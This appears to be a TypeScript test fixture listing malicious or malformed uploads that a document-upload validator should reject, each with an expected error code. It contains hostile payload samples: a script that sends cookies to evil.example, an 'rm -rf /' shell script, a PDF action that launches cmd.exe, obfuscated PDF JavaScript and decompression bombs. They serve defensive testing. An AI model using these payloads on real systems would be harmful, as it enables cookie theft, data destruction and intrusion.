/** Files that are no papers, each with the refusal it gets. */
import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { fileOf, hugePng, picture } from '../../settings/testing/picture.ts'
import { MOST_DOCUMENT_BYTES } from '../contract.ts'
import { pdf } from './request.ts'

export type BadFile = [kind: string, make: () => File | Promise<File>, code: string]

const named = (text: string | Buffer, name: string, type: string): File =>
  fileOf(typeof text === 'string' ? Buffer.from(text, 'latin1') : text, name, type)
const asJpeg = (text: string | Buffer): File => named(text, 'id.jpg', 'image/jpeg')
const asPdf = (text: string | Buffer): File => named(text, 'id.pdf', 'application/pdf')
const bytesOf = async (file: File): Promise<Buffer> => Buffer.from(await file.arrayBuffer())
const photo = (format: 'jpeg' | 'png' | 'webp' | 'gif' = 'jpeg') => picture({ width: 640, height: 400, format })

const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900" onload="alert(1)"><text>ID</text></svg>`

/** An object in a PDF, such as `<</S/JavaScript/JS(app.alert(1))>>`. */
const object = (dictionary: string): string => `4 0 obj\n${dictionary}\nendobj\n`
/** An object stream, packed as a PDF program packs it. */
const packed = (objects: string | Buffer, filter = '/FlateDecode', type = '/Type/ObjStm'): string => {
  const stream = deflateSync(typeof objects === 'string' ? Buffer.from(objects, 'latin1') : objects)
  const head = `5 0 obj\n<<${type}/N 1/First 4/Filter ${filter}/Length ${stream.length}>>`
  return `${head}\nstream\n${stream.toString('latin1')}\nendstream\nendobj\n`
}

export const notPapers: readonly BadFile[] = [
  // A wrong type under a right name.
  ['a page of HTML called a photo', () => asJpeg(`<!doctype html><html>${script}</html>`), 'document_type'],
  ['a drawing with a script (SVG) called a photo', () => asJpeg(svg), 'document_type'],
  ['a drawing (SVG) under its own name', () => named(svg, 'id.svg', 'image/svg+xml'), 'document_type'],
  ['a program for Windows', () => asJpeg('MZ\x90\x00\x03\x00\x00\x00\x04'), 'document_type'],
  ['a program for Linux', () => asPdf('\x7fELF\x02\x01\x01\x00'), 'document_type'],
  ['a shell script', () => asPdf('#!/bin/sh\nrm -rf /\n'), 'document_type'],
  [
    'a zip, as Word documents are',
    () => named('PK\x03\x04\x14\x00\x06\x00', 'certificate.docx', 'application/msword'),
    'document_type',
  ],
  ['an old Word document with macros', () => asPdf('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), 'document_type'],
  ['a moving GIF', async () => named(await bytesOf(await photo('gif')), 'id.jpg', 'image/jpeg'), 'document_type'],
  ['a TIFF', () => asJpeg('II*\x00\x08\x00\x00\x00'), 'document_type'],
  ['a HEIC of an iPhone called JPG', () => asJpeg('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic'), 'document_type'],
  ['a film', () => asJpeg('\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2'), 'document_type'],
  ['packed once more', async () => asJpeg(gzipSync(await bytesOf(await photo()))), 'document_type'],
  ['mere noughts', () => asJpeg(Buffer.alloc(4096)), 'document_type'],
  [
    'a photo behind something else (GIF and HTML)',
    async () => asJpeg(Buffer.concat([Buffer.from(`GIF89a/*${script}*/`), await bytesOf(await photo())])),
    'document_type',
  ],
  ['a PDF behind a page of HTML', async () => asPdf(Buffer.concat([Buffer.from(script), await bytesOf(pdf())])), 'document_type'],

  // Pictures that are none, or too much of one.
  ['the first bytes of a JPEG and a script', () => asJpeg(`\xff\xd8\xff\xe0${script}`), 'picture_unreadable'],
  ['the first bytes of a PNG alone', () => asJpeg('\x89PNG\r\n\x1a\n'), 'picture_unreadable'],
  ['a WebP with nothing in it', () => asJpeg('RIFF\x10\x00\x00\x00WEBPVP8 '), 'picture_unreadable'],
  [
    'half a photo',
    async () => asJpeg((await bytesOf(await picture({ width: 900, height: 900, format: 'png' }))).subarray(0, 900)),
    'picture_unreadable',
  ],
  ['a photo whose middle is noise', async () => asJpeg(await spoiled()), 'picture_unreadable'],
  ['a picture that unpacks to nine hundred million points', () => asJpeg(hugePng(30_000, 30_000)), 'picture_unreadable'],
  ['a PNG that lies about its size', () => asJpeg(hugePng(2_000_000, 2_000_000, 1)), 'picture_unreadable'],
  ['a picture of one point', () => picture({ width: 1, height: 1 }), 'picture_small'],
  ['a picture in which nothing can be read', () => picture({ width: 2000, height: 120 }), 'picture_small'],

  // PDFs that are none, are closed, or do something.
  ['the first bytes of a PDF alone', () => asPdf('%PDF-1.7\n'), 'pdf_unreadable'],
  ['half a PDF', async () => asPdf((await bytesOf(pdf())).subarray(0, 150)), 'pdf_unreadable'],
  ['a PDF without a page', () => asPdf('%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\nstartxref\n9\n%%EOF\n'), 'pdf_unreadable'],
  [
    'a PDF with another file behind it',
    async () => asPdf(Buffer.concat([await bytesOf(pdf()), Buffer.from('PK\x03\x04 a zip')])),
    'pdf_unreadable',
  ],
  [
    'a PDF with a page of HTML behind it',
    async () => asPdf(Buffer.concat([await bytesOf(pdf()), Buffer.from(script)])),
    'pdf_unreadable',
  ],
  [
    'a PDF with a password',
    () => pdf(object('<</Filter/Standard/V 2/R 3/Length 128>>') + 'trailer<</Encrypt 4 0 R>>'),
    'pdf_locked',
  ],
  ['a PDF with a script', () => pdf(object('<</S/JavaScript/JS(app.alert(1))>>')), 'pdf_active'],
  [
    'a PDF with a script whose name is written in numbers',
    () => pdf(object('<</S/J#61va#53cript/J#53(app.alert(1))>>')),
    'pdf_active',
  ],
  ['a PDF with a script in a packed part', () => pdf(packed('4 0 <</S/JavaScript/JS(app.alert(1))>>')), 'pdf_active'],
  ['a PDF with a packed part that hides its type', () => pdf(packed('4 0 <</S/JavaScript>>', '/FlateDecode', '')), 'pdf_active'],
  [
    'a PDF with a script between words that look like a stream',
    () => pdf('(stream\n)' + object('<</S/JavaScript/JS(1)>>') + '(endstream)'),
    'pdf_active',
  ],
  [
    'a PDF with objects packed in a way nobody looks into',
    () => pdf(packed('4 0 <</S/JavaScript>>', '[/ASCII85Decode/FlateDecode]')),
    'pdf_unreadable',
  ],
  ['a PDF that starts a program', () => pdf(object('<</S/Launch/F(cmd.exe)>>')), 'pdf_active'],
  ['a PDF with a file inside', () => pdf(object('<</Type/EmbeddedFile/Length 3>>')), 'pdf_active'],
  ['a PDF that opens another one', () => pdf(object('<</S/GoToR/F(other.pdf)>>')), 'pdf_active'],
  ['a PDF that sends a form', () => pdf(object('<</S/SubmitForm/F(https://evil.example)>>')), 'pdf_active'],
  ['a PDF with a computing form', () => pdf(object('<</AcroForm<</XFA 5 0 R>>>>')), 'pdf_active'],
  ['a PDF with a film', () => pdf(object('<</Subtype/RichMedia>>')), 'pdf_active'],
  ['a PDF that unpacks to a hundred megabytes', () => pdf(packed(Buffer.alloc(100_000_000))), 'pdf_unreadable'],
  [
    'a PDF with a broken packed part',
    () => pdf(`5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\nnonsense\nendstream\nendobj\n`),
    'pdf_unreadable',
  ],

  // What is refused before it is looked at.
  ['nothing at all', () => asJpeg(''), 'invalid_input'],
  ['a byte more than is taken', () => asJpeg(Buffer.alloc(MOST_DOCUMENT_BYTES + 1)), 'invalid_input'],
  ['a file far too large', () => asJpeg(Buffer.alloc(MOST_DOCUMENT_BYTES + 100_000)), 'too_large'],
]

async function spoiled(): Promise<Buffer> {
  const noise = Buffer.from(Array.from({ length: 600 * 600 * 3 }, (_, i) => (i * 2_654_435_761) >>> 24))
  const whole = await sharp(noise, { raw: { width: 600, height: 600, channels: 3 } })
    .png()
    .toBuffer()
  whole.fill(0x5a, Math.floor(whole.length / 3), Math.floor(whole.length / 2))
  return whole
}
